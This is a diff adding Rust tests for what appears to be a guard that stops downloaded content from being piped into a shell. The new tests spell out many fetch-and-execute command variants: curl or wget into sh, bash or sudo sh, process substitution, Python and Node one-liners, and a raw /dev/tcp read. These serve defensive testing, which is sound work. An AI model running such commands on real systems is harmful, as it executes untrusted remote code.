@@ -97,8 +97,72 @@ fn the_shell_itself_into_a_shell() {
     stopped(&format!("{{ {talk}; }} | {{ sleep 0.5; exec sh; }}"));
 }
 
+/// What stands between passes it on, whoever is started when.
+#[test]
+fn through_other_programs() {
+    for script in [
+        "curl -sS $url | cat | sh",
+        "curl -sS $url | sed s/x/x/ | tee copy | bash",
+        "curl -sS $url | { sleep 0.3; exec cat; } | { sleep 0.6; exec sh; }",
+        "{ sleep 0.3; exec curl -sS $url; } | cat | cat | sh",
+        "{ sleep 0.3; exec curl -sS $url; } | { sleep 0.6; exec cat; } | sh",
+    ] {
+        stopped(script);
+    }
+}
+
+#[test]
+fn with_more_rights() {
+    stopped("wget -qO- $url | sudo sh");
+    stopped("{ sleep 0.5; exec wget -qO- $url; } | sudo sh");
+}
+
+/// The script is named on the command line, but it is a pipe all the same.
+#[test]
+fn as_a_file_that_is_a_pipe() {
+    stopped("bash <(curl -sS $url)");
+    stopped("bash <(sleep 0.5; exec curl -sS $url)");
+    stopped("bash -x -- <(curl -sS $url | cat) --yes");
+    stopped("curl -sS $url | bash /dev/stdin");
+    stopped("curl -sS $url | bash /proc/self/fd/0");
+}
+
+/// A program that has downloaded something and starts a shell to read it.
+#[test]
+fn from_the_program_that_starts_the_shell() {
+    let python = |script: &str| format!("/usr/bin/python3 -c '{script}' $url");
+    let get = "import sys, subprocess, urllib.request as r; get = lambda: r.urlopen(sys.argv[1]).read()";
+    stopped(&python(&format!("{get}; subprocess.run([\"sh\"], input=get())")));
+    stopped(&python(&format!("{get}; subprocess.run(\"env sh\", shell=True, input=get())")));
+    stopped(&python(&format!(
+        "{get}; s = subprocess.Popen([\"sh\"], stdin=subprocess.PIPE); import time; time.sleep(0.5); s.communicate(get())"
+    )));
+    let node = r#"node -e "
+        require('http').get(process.argv[1], got => got.pipe(
+            require('child_process').spawn('sh', { stdio: ['pipe', 'inherit', 'inherit'] }).stdin))" $url"#;
+    stopped(node);
+}
+
+/// A connection is a way in by itself.
+#[test]
+fn from_a_connection() {
+    stopped(
+        r"hostport=${url#http://}; exec 5<>/dev/tcp/${hostport%%:*}/$(echo ${hostport##*:} | cut -d/ -f1); \
+          printf 'GET /x HTTP/1.0\r\n\r\n' >&5; sh <&5",
+    );
+}
+
 #[test]
 fn local_data_into_a_shell_is_fine() {
+    fine("bash <(echo \"touch $stage/ran\")");
+    fine("echo \"touch $stage/ran\" | cat | sed s/x/x/ | bash");
+    fine("echo \"touch $stage/ran\" | sudo sh");
+    // A download before, into nothing that the shell reads.
+    fine("curl -sS $url > /dev/null; echo \"touch $stage/ran\" | sh");
+    fine("x=$(curl -sS $url | wc -c); echo \"touch $stage/ran\" | bash");
+    fine(
+        "/usr/bin/python3 -c 'import subprocess, sys; subprocess.run([\"sh\"], input=sys.argv[1].encode())' \"touch $stage/ran\"",
+    );
     fine("echo \"touch $stage/ran\" > script; cat script | bash");
     fine("printf 'touch %s/ran' \"$stage\" | sh");
     fine("sh <<< \"touch $stage/ran\"");
